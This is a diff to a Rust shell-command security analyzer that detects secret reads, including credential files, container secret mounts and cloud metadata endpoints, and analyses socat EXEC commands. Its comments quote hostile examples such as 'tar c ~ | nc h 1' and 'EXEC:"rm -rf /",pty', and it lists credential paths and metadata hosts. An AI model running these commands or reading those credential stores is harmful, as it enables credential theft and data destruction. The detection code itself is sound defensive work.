@@ -49,27 +49,6 @@ const SQL_COPY_OUT: &str = "sql_copy_out";
 /// Commands whose output does not carry their input (a count or a digest).
 const DIGESTS: &[&str] = &["wc", "md5sum", "sha1sum", "sha224sum", "sha256sum", "sha384sum", "sha512sum", "b2sum", "cksum", "sum", "true", "false", "test", "["];
 
-/// Credential stores under the home directory: (path relative to home, whole directory).
-/// `.ssh` is handled separately (public keys and config there are not secret).
-const HOME_SECRETS: &[(&str, bool)] = &[
-    (".aws", true),
-    (".config/gcloud", true),
-    (".azure", true),
-    (".gnupg", true),
-    (".password-store", true),
-    (".kube/config", false),
-    (".docker/config.json", false),
-    (".netrc", false),
-    (".pgpass", false),
-    (".my.cnf", false),
-    (".git-credentials", false),
-    (".npmrc", false),
-    (".pypirc", false),
-    (".config/gh/hosts.yml", false),
-    (".terraform.d/credentials.tfrc.json", false),
-    (".vault-token", false),
-];
-
 /// Files in `~/.ssh` that are not secret.
 const SSH_PUBLIC: &[&str] = &["config", "known_hosts", "known_hosts.old", "authorized_keys", "authorized_keys2", "environment", "rc"];
 
@@ -104,7 +83,7 @@ pub fn secret_path(path: &str) -> Option<&'static str> {
             return Some(ENV_DUMP);
         }
     let base = p.rsplit('/').next().unwrap_or(p);
-    if let Some(h) = home_relative(p).or(if p == "~" || p == "$HOME" { Some("") } else { None }) {
+    if let Some(h) = home_relative(p).or(if matches!(p, "~" | "$HOME" | "${HOME}") { Some("") } else { None }) {
         let h = h.trim_start_matches("./");
         if h == ".ssh" {
             return Some(SECRET_FILE);
@@ -113,10 +92,22 @@ pub fn secret_path(path: &str) -> Option<&'static str> {
             let f = f.rsplit('/').next().unwrap_or(f);
             return (!f.ends_with(".pub") && !SSH_PUBLIC.contains(&f)).then_some(SECRET_FILE);
         }
-        for (s, dir) in HOME_SECRETS {
-            if h == *s || (*dir && h.starts_with(&format!("{s}/"))) || (!*dir && h.starts_with(&format!("{s}.")) && s.ends_with("config")) {
-                return Some(SECRET_FILE);
-            }
+        // The home directory itself holds every credential store (`rclone sync ~ r:`,
+        // `tar c ~ | nc h 1`).
+        if h.is_empty() || super::fs::credential_store(h) {
+            return Some(SECRET_FILE);
+        }
+    }
+    if p == "/root" || p.strip_prefix("/home/").is_some_and(|u| !u.is_empty() && !u.contains('/')) {
+        return Some(SECRET_FILE);
+    }
+    // Secrets mounted into a container: the Kubernetes service-account token (and the EKS,
+    // Azure workload-identity tokens) under /var/run/secrets, Docker and Compose secrets in
+    // /run/secrets (Kubernetes docs, "Configure Service Accounts for Pods"; Docker docs,
+    // "Manage sensitive data with Docker secrets"). The CA bundle and namespace are public.
+    for dir in ["/var/run/secrets/", "/run/secrets/"] {
+        if let Some(rest) = p.strip_prefix(dir) {
+            return (!rest.is_empty() && !matches!(base, "ca.crt" | "namespace")).then_some(SECRET_FILE);
         }
     }
     if matches!(p, "/etc/shadow" | "/etc/gshadow" | "/etc/shadow-" | "/etc/gshadow-" | "/etc/master.passwd") {
@@ -213,12 +204,45 @@ pub fn analyze(a: &mut Analyzer, inv: &Invocation, _depth: usize) {
 /// Sources and sinks a catalog entry declares: each `[[program.prints]]` that applies makes a
 /// `data.source`, and a `[program.send]` whose path the command line takes makes a `net.send`
 /// (`docs/catalog.md`).
-pub fn catalog(a: &mut Analyzer, inv: &Invocation, p: &Program) {
+///
+/// `depth` is the nesting of the command line, for the commands a sink runs itself
+/// (socat's `EXEC:` and `SYSTEM:` addresses).
+pub fn catalog(a: &mut Analyzer, inv: &Invocation, p: &Program, depth: usize) {
     for pr in &p.prints {
         prints(a, inv, p, pr);
     }
+    if p.downloads {
+        metadata_source(a, inv);
+    }
     if let Some(m) = p.send_match(inv.args()) {
-        send(a, inv, &m);
+        send(a, inv, &m, depth);
+    }
+}
+
+/// Cloud instance metadata services, which hand out the instance's credentials to whoever on
+/// the machine asks (AWS IMDS `169.254.169.254` and `fd00:ec2::254`, GCP
+/// `metadata.google.internal`, Azure IMDS `169.254.169.254`, Alibaba Cloud `100.100.100.200`,
+/// Oracle Cloud `169.254.169.254`; each provider's instance metadata documentation).
+pub const METADATA_HOSTS: &[&str] = &["169.254.169.254", "fd00:ec2::254", "metadata.google.internal", "metadata", "100.100.100.200", "169.254.170.2"];
+
+/// Source kind of what a metadata service answers.
+pub const CLOUD_METADATA: &str = "cloud_metadata";
+
+/// A `data.source` (kind `cloud_metadata`) when a downloader fetches a URL of a cloud
+/// metadata service ([`METADATA_HOSTS`]): what it prints (role credentials, access tokens)
+/// is the instance's identity. Fetching it alone is ordinary on a cloud machine (region,
+/// instance id) and stays allowed; sending it anywhere is `net.exfil`.
+fn metadata_source(a: &mut Analyzer, inv: &Invocation) {
+    for w in inv.args() {
+        let t = w.text.as_str();
+        if t.starts_with('-') || !(t.contains("://") || t.contains('/')) {
+            continue;
+        }
+        let url = if t.contains("://") { t.to_string() } else { format!("http://{t}") };
+        if METADATA_HOSTS.contains(&host_of(&url).as_str()) {
+            source(a, inv, CLOUD_METADATA, t, w.span);
+            return;
+        }
     }
 }
 
@@ -261,7 +285,7 @@ fn input_given(inv: &Invocation) -> bool {
 }
 
 /// A `net.send` for a command line that takes its entry's `[program.send]` path.
-fn send(a: &mut Analyzer, inv: &Invocation, m: &SendMatch) {
+fn send(a: &mut Analyzer, inv: &Invocation, m: &SendMatch, depth: usize) {
     let s = m.send;
     let reads_stdin = match s.stdin {
         StdinUse::Named => false,
@@ -286,7 +310,7 @@ fn send(a: &mut Analyzer, inv: &Invocation, m: &SendMatch) {
         }
         SendMode::Copy => copy(a, inv, m),
         SendMode::Batch => batch(a, inv, m),
-        SendMode::Addresses => socat(a, inv, m.operands()),
+        SendMode::Addresses => socat(a, inv, m.operands(), depth),
     }
 }
 
@@ -375,6 +399,10 @@ fn request(a: &mut Analyzer, inv: &Invocation, m: &SendMatch, reads_stdin: bool,
         }
     }
     let host = url.as_deref().map(host_of).unwrap_or_default();
+    // A request to the metadata service itself (the IMDSv2 token in a header) sends nothing away.
+    if METADATA_HOSTS.contains(&host.as_str()) {
+        return;
+    }
     match method {
         Some(method) => sink(a, inv, &host, method, stdin),
         None if inv.args().iter().any(|w| w.dynamic) => sink(a, inv, &host, "request", false),
@@ -434,8 +462,10 @@ fn batch(a: &mut Analyzer, inv: &Invocation, m: &SendMatch) {
     sink(a, inv, &host, "copy", stdin);
 }
 
-/// socat(1) addresses: a network one makes it a sink, `FILE:`/`OPEN:` reads a file.
-fn socat(a: &mut Analyzer, inv: &Invocation, addrs: &[Word]) {
+/// socat(1) addresses: a network one makes it a sink, `FILE:`/`OPEN:` reads a file, and
+/// `EXEC:CMD` / `SYSTEM:CMD` runs a command (execvp of its words / `sh -c`), analysed as bash
+/// (its address options after the first `,` removed; socat(1) ADDRESS TYPES).
+fn socat(a: &mut Analyzer, inv: &Invocation, addrs: &[Word], depth: usize) {
     let mut host = None;
     let mut stdin = false;
     for w in addrs {
@@ -447,6 +477,12 @@ fn socat(a: &mut Analyzer, inv: &Invocation, addrs: &[Word]) {
             }
             "TCP-LISTEN" | "TCP4-LISTEN" | "TCP6-LISTEN" | "OPENSSL-LISTEN" | "UDP-LISTEN" => host = Some("listen".into()),
             "-" | "STDIN" | "STDIO" => stdin = true,
+            "EXEC" | "SYSTEM" => {
+                // `EXEC:"rm -rf /",pty`: the command ends at the first unquoted `,`.
+                let cmd = rest.split(',').next().unwrap_or(rest).trim_matches(['"', '\'']);
+                let word = Word { text: cmd.to_string(), verbatim_at: None, ..w.clone() };
+                a.shell_word(&word, &format!("socat {ty}:"), depth);
+            }
             "FILE" | "OPEN" | "GOPEN" | "CREATE" => {
                 let path = rest.split(',').next().unwrap_or(rest);
                 file_source(a, inv, &Word { text: path.to_string(), ..w.clone() });
